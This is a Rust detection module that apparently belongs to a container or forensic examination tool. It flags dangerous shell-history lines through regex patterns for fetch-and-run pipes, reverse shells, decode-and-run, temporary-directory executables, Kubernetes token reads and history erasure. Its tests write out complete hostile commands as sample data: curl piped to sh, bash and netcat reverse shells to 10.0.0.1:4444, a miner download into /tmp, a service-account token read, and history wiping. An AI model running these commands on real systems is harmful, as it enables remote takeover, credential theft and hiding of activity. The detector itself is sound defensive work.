//! Shell-history lines that fetch and run code, open reverse shells, decode and run,
//! make something in a temporary place executable, fetch into a temporary place, read
//! the pod's service-account token, or erase the history itself.

use super::{ev, Finding, Severity};
use crate::examine::facts::Facts;
use regex::RegexSet;
use std::sync::OnceLock;

/// What shell-history lines fetch and run, open reverse shells, decode and run, or make
/// something in a temporary place executable.
pub const HISTORY_PATTERNS: &[(&str, &str)] = &[
    (
        r"(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(ba|da|z|k|a)?sh\b",
        "fetches code and runs it",
    ),
    (
        r"/dev/(tcp|udp)/",
        "opens a network connection from the shell (a reverse shell)",
    ),
    (
        r"\bn(c|cat|etcat)\b[^|;]*\s-[a-z]*[ec]\b",
        "runs a shell over netcat (a reverse or bind shell)",
    ),
    (
        r"\b(ba)?sh\s+-i\b[^|;]*[<>]&",
        "runs an interactive shell with its input or output redirected (a reverse shell)",
    ),
    (
        r"\bsocat\b.*\bexec:",
        "runs a program over socat (a reverse shell)",
    ),
    (
        r"\bpython[0-9.]*\s+-c\s.*\bsocket\b",
        "opens a socket from inline Python (a reverse shell)",
    ),
    (
        r"\bmkfifo\b.*\bn(c|cat)\b",
        "pipes a shell through netcat with a FIFO (a reverse shell)",
    ),
    (
        r"base64\s+(-d|--decode)\b[^;]*\|\s*(ba|da|z)?sh\b",
        "decodes code and runs it",
    ),
    (
        r"\bchmod\s+[^;|]*\+?x\s+/(tmp|var/tmp|dev/shm)/",
        "makes a file in a temporary place executable",
    ),
    (
        r"\b(curl|wget)\b[^|;&]*(\s-[a-zA-Z]*[oOP]\s*|\s--output(-document)?[= ]|\s--directory-prefix[= ]|>\s*)/(tmp|var/tmp|dev/shm)\b",
        "fetches something into a temporary place",
    ),
    (
        r"/(var/)?run/secrets/kubernetes\.io/serviceaccount/token|/var/run/secrets/eks\.amazonaws\.com/",
        "reads the pod's service-account token",
    ),
    (
        r"\bhistory\s+-c\b|\bunset\s+HISTFILE\b|\bHISTFILE=/dev/null\b|\bHISTSIZE=0\b|\bset\s+\+o\s+history\b|\brm\b[^;|]*\.(bash|zsh|ash|sh)_history\b",
        "erases or stops the shell history",
    ),
];

fn history_set() -> &'static RegexSet {
    static SET: OnceLock<RegexSet> = OnceLock::new();
    SET.get_or_init(|| {
        RegexSet::new(HISTORY_PATTERNS.iter().map(|(p, _)| *p))
            .unwrap_or_else(|_| RegexSet::empty())
    })
}

/// What `line` does of [`HISTORY_PATTERNS`], in their words; empty for none.
pub fn dangers(line: &str) -> Vec<&'static str> {
    history_set()
        .matches(line)
        .iter()
        .map(|i| HISTORY_PATTERNS[i].1)
        .collect()
}

/// Shell-history lines that match [`HISTORY_PATTERNS`].
pub fn commands(f: &Facts, out: &mut Vec<Finding>) {
    for l in &f.history {
        let hits = dangers(&l.text);
        if hits.is_empty() {
            continue;
        }
        let member = f.history_file(l);
        let user_file = member.trim_start_matches("files");
        out.push(Finding {
            severity: Severity::High,
            rule: "history-command",
            sentence: format!(
                "{user_file} line {}: `{}` {}",
                l.number,
                l.text,
                hits.join("; ")
            ),
            evidence: vec![ev(f, member, format!("line {}", l.number))],
        });
    }
}

#[cfg(test)]
mod tests {
    use super::super::{all, facts};
    use crate::examine::facts::HistoryLine;

    #[test]
    fn history_lines_that_fetch_and_run_or_open_shells_are_found_and_plain_ones_are_not() {
        let bad = [
            "curl -fsSL http://198.51.100.7/x.sh | sh",
            "wget -qO- http://x/y | bash",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "ncat 10.0.0.1 4444 -c sh",
            "echo ZWNobyBoaQ== | base64 -d | sh",
            "python3 -c 'import socket,os,pty;s=socket.socket()'",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
            "socat tcp:10.0.0.1:4444 exec:sh",
            "chmod +x /tmp/x",
            "wget -O /tmp/kworker http://198.51.100.7/k",
            "curl -so /dev/shm/.x http://198.51.100.7/x",
            "cd /; wget -P /tmp http://198.51.100.7/miner",
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            "history -c",
            "unset HISTFILE",
            "export HISTFILE=/dev/null",
            "rm -f /root/.bash_history",
        ];
        let fine = [
            "ls -la",
            "curl -o out.json https://api/x",
            "wget -O app.tar.gz https://example.org/app.tar.gz",
            "cat /etc/passwd | grep root",
            "nc -z db 5432",
            "chmod 644 /etc/x",
            "history | tail",
            "ls /var/run/secrets/kubernetes.io/serviceaccount/",
        ];
        let mut f = facts();
        f.history_files.push("files/root/.ash_history".into());
        for (i, l) in bad.iter().chain(fine.iter()).enumerate() {
            f.history.push(HistoryLine {
                file: 0,
                number: i + 1,
                text: (*l).into(),
            });
        }
        let found = all(&f);
        let lines: Vec<usize> = found
            .iter()
            .map(|x| {
                x.evidence[0]
                    .at
                    .trim_start_matches("line ")
                    .parse()
                    .unwrap()
            })
            .collect();
        assert_eq!(lines, (1..=bad.len()).collect::<Vec<_>>(), "{found:#?}");
    }
}
